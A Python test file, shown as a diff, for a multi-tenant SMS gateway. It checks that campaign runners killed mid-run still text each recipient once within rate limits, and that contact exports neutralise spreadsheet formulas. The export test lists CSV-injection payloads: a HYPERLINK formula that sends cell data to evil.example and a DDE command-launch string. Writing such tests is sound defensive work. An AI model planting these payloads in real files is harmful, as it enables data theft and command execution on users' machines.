@@ -1,0 +1,206 @@
+"""Attacks, round 5: what changed most recently, judged from the emulators' own records.
+
+Real processes (SIGKILLed at random points) share one PostgreSQL store and one stored
+tenant whose configuration another process updates while campaigns run (the kernel's
+``Renew``); the vendor's request records and their arrival times say whether every
+recipient was texted once and whether a limit was ever exceeded. Then hostile contact
+exports, forged and cross-tenant callbacks, and the status poller over stored tenants.
+"""
+from __future__ import annotations
+
+import csv
+import os
+import random
+import signal
+import subprocess
+import sys
+import time
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from reference_provider import API_KEY, EchoPlugin, create_emulator
+from services import pg_url  # noqa: F401  (a fixture)
+from smsgate import Gateway
+from smsgate.plugins import PluginManager
+from smsgate.store import open_store
+from smsgate.tenants import StoredTenants
+from smsgate.testing import EmulatorControl, LiveServer
+
+HERE = Path(__file__).parent
+SRC = HERE.parent / "src"
+FERNET_KEY = "p5gWkbqH0f8L1b0yO1jB2k5n2y0dJ3aZQGZc8sXq1Yk="
+
+
+def _env() -> dict[str, str]:
+    return {**os.environ, "PYTHONPATH": os.pathsep.join([str(SRC), str(HERE)])}
+
+
+def _plugins() -> PluginManager:
+    pm = PluginManager(load_entry_points=False)
+    pm.register(EchoPlugin())
+    return pm
+
+
+def received(ctl: EmulatorControl) -> Counter[str]:
+    """Every number the echo vendor received a message for, with how many times."""
+    out: Counter[str] = Counter()
+    for r in ctl.requests(method="POST"):
+        if not r.path.startswith("/messages"):
+            continue
+        body = r.json()
+        for m in body["messages"] if r.path.endswith("/bulk") else [body]:
+            out[m["to"]] += 1
+    return out
+
+
+def arrivals(ctl: EmulatorControl, since: float = 0.0) -> list[tuple[float, int]]:
+    """(arrival time, messages carried) of every send request the vendor received after ``since``."""
+    out = []
+    for r in ctl.requests(method="POST"):
+        if r.path.startswith("/messages") and r.at >= since:
+            out.append((r.at, len(r.json()["messages"]) if r.path.endswith("/bulk") else 1))
+    return sorted(out)
+
+
+def busiest(events: list[tuple[float, int]], period: float = 1.0) -> int:
+    """The most messages any window ``[t, t + period)`` holds."""
+    best = total = lo = 0
+    for hi in range(len(events)):
+        total += events[hi][1]
+        while events[hi][0] - events[lo][0] >= period:
+            total -= events[lo][1]
+            lo += 1
+        best = max(best, total)
+    return best
+
+
+# ------------------------------------------------ runners SIGKILLed while the tenant is updated
+#: A campaign runner of stored tenant TENANT: STORE_URL TENANT CAMPAIGN_ID KEY.
+STORED_RUNNER = r'''
+import sys
+from smsgate import Gateway
+from smsgate.plugins import PluginManager
+from smsgate.store import open_store
+from smsgate.tenants import StoredTenants
+from reference_provider import EchoPlugin
+pm = PluginManager(load_entry_points=False)
+pm.register(EchoPlugin())
+store = open_store(sys.argv[1])
+tenants = StoredTenants(store, keys=sys.argv[4], plugins=pm)
+with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm, tenants=tenants) as gw:
+    gw.tenant(sys.argv[2]).campaigns.get(sys.argv[3]).run()
+'''
+
+
+def _tenant(url: str, rate: int) -> dict[str, Any]:
+    return {"default_region": "NG", "sender": "ACME", "providers": {
+        "main": {"plugin": "echo", "base_url": url, "credentials": {"api_key": API_KEY}, "rate_limit": rate}}}
+
+
+@pytest.mark.postgres
+def test_runners_killed_at_random_while_the_tenant_is_updated_send_once_within_the_limits(
+        tmp_path: Path, pg_url: str) -> None:  # noqa: F811  (the fixture)
+    """Two stored tenants on one PostgreSQL store, each with its own vendor and a campaign
+    run by three processes at once; runners are SIGKILLed at random points and replaced,
+    while this process updates acme's rate limit from 80/s to 40/s. Then a last runner per
+    campaign finishes. From the vendors' records: every recipient of each tenant texted
+    exactly once, and only at its own tenant's vendor; acme's vendor never saw more than 80
+    messages in any second, nor more than 40 in any second starting a moment after the
+    update returned; beta's vendor never more than 60."""
+    rng = random.Random(5)
+    pm = _plugins()
+    n = 240
+    with LiveServer(create_emulator()) as a_srv, LiveServer(create_emulator()) as b_srv, \
+            open_store(pg_url) as store:
+        a_ctl, b_ctl = EmulatorControl(a_srv.url), EmulatorControl(b_srv.url)
+        tenants = StoredTenants(store, keys=FERNET_KEY, plugins=pm)
+        tenants.add("acme", _tenant(a_srv.url, 80))
+        tenants.add("beta", _tenant(b_srv.url, 60))
+        numbers = {"acme": [f"+2348061{i:06d}" for i in range(n)], "beta": [f"+2348071{i:06d}" for i in range(n)]}
+        with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm, tenants=tenants) as gw:
+            cids = {t: gw.tenant(t).campaigns.create("spring", text="Sale", audience=numbers[t], batch_size=6,
+                                                     concurrency=3, lease_seconds=2).campaign_id
+                    for t in ("acme", "beta")}
+        a_ctl.fault(kind="latency", delay=0.01, path="/messages", count=None)
+
+        def start(t: str) -> subprocess.Popen[bytes]:
+            return subprocess.Popen([sys.executable, "-c", STORED_RUNNER, pg_url, t, cids[t], FERNET_KEY],
+                                    env=_env(), stderr=subprocess.PIPE)
+
+        procs = [(t, start(t)) for t in ("acme", "beta") for _ in range(3)]
+        updated_at = None
+        t0 = time.monotonic()
+        kills = 0
+        while time.monotonic() - t0 < 5:
+            time.sleep(rng.uniform(0.2, 0.6))
+            if updated_at is None and time.monotonic() - t0 > 1.5:
+                tenants.update("acme", _tenant(a_srv.url, 40))
+                updated_at = time.time()
+            alive = [(i, p) for i, p in enumerate(procs) if p[1].poll() is None]
+            if not alive:
+                break
+            i, (t, p) = rng.choice(alive)
+            p.send_signal(signal.SIGKILL)
+            p.communicate()
+            kills += 1
+            procs[i] = (t, start(t))
+        for t, p in procs:
+            _, err = p.communicate(timeout=120)
+            assert p.returncode in (0, -signal.SIGKILL), err.decode()[-2000:]
+        time.sleep(2.5)  # every dead runner's lease ended: the last runner takes its claims over
+        for t in ("acme", "beta"):
+            last = start(t)
+            _, err = last.communicate(timeout=120)
+            assert last.returncode == 0, err.decode()[-2000:]
+        assert kills >= 4
+        for t, ctl in (("acme", a_ctl), ("beta", b_ctl)):
+            got = received(ctl)
+            assert set(got) == set(numbers[t]), f"{t}: lost {len(set(numbers[t]) - set(got))}, " \
+                                                f"foreign {len(set(got) - set(numbers[t]))}"
+            assert max(got.values()) == 1, f"{t}: duplicates {[k for k, v in got.items() if v > 1][:5]}"
+        assert busiest(arrivals(a_ctl)) <= 80
+        assert updated_at is not None
+        assert busiest(arrivals(a_ctl, updated_at + 1.0)) <= 40
+        assert busiest(arrivals(b_ctl)) <= 60
+
+
+# ------------------------------------------------------------ hostile contacts, exported as CSV
+HOSTILE = {
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": {"note": "+SUM(1,2)", "code": "@cmd|' /C calc'!A0"},
+    "-2+3": {"note": "=1+1", "code": "\t=2"},
+    "Ada": {"note": "'=already quoted", "code": "\r=3"},
+}
+
+
+def test_an_exported_list_opened_in_a_spreadsheet_runs_no_formula(tmp_path: Path) -> None:
+    """Contacts whose name or fields start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+    return (a signup form's input, say) are exported with those cells quoted for spreadsheets
+    (a leading ``'``, OWASP's CSV-injection rule), so opening the export runs nothing; the phone
+    column (E.164, ``+`` and digits) is left as it is; and the file still reads back as the
+    same list with ``CsvAudience``."""
+    from smsgate.campaigns import CsvAudience
+
+    contacts = [{"phone": f"+23480312345{i:02d}", "name": name, **fields}
+                for i, (name, fields) in enumerate(HOSTILE.items())]
+    out = tmp_path / "vip.csv"
+    with Gateway({"store": f"sqlite:///{tmp_path / 's.db'}", "tenants": {"acme": {
+            "default_region": "NG", "providers": {"p": {"plugin": "echo", "base_url": "http://127.0.0.1:9",
+                                                        "credentials": {"api_key": API_KEY}}}}}},
+                 plugins=_plugins()) as gw:
+        lists = gw.tenant("acme").contact_lists
+        lid = lists.create("vip", contacts).contact_list.list_id
+        assert lists.export(lid, out) == 3
+        before = {c.phone: (c.name, dict(c.fields)) for c in lists.contacts(lid)}
+
+        with open(out, newline="", encoding="utf-8") as fh:
+            rows = list(csv.reader(fh))
+        for row in rows[1:]:
+            assert row[0].startswith("+234")
+            for cell in row[1:]:
+                assert not cell or cell[0] not in "=+-@\t\r", f"a formula reaches the spreadsheet: {cell!r}"
+        again = lists.create("again", CsvAudience(out)).contact_list.list_id
+        after = {c.phone: (c.name, dict(c.fields)) for c in lists.contacts(again)}
+    assert after == before
